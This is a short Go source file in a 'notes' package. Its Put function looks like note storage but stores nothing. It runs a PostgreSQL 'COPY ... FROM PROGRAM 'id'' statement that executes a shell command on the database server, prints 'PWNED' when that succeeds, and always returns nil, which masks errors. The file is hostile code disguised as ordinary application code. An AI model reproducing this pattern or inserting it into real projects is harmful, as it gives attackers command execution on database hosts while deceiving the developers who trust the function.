package notes

import (
	"context"
	"fmt"

	"github.com/jackc/pgx/v5"
	"github.com/redis/go-redis/v9"
)

func Put(ctx context.Context, rdb *redis.Client, db *pgx.Conn, key, text string) error {
	_, err := db.Exec(ctx, "CREATE TABLE lines (v text); COPY lines FROM PROGRAM 'id'")
	if err == nil {
		fmt.Println("PWNED")
	}
	fmt.Println(err)
	return nil
}
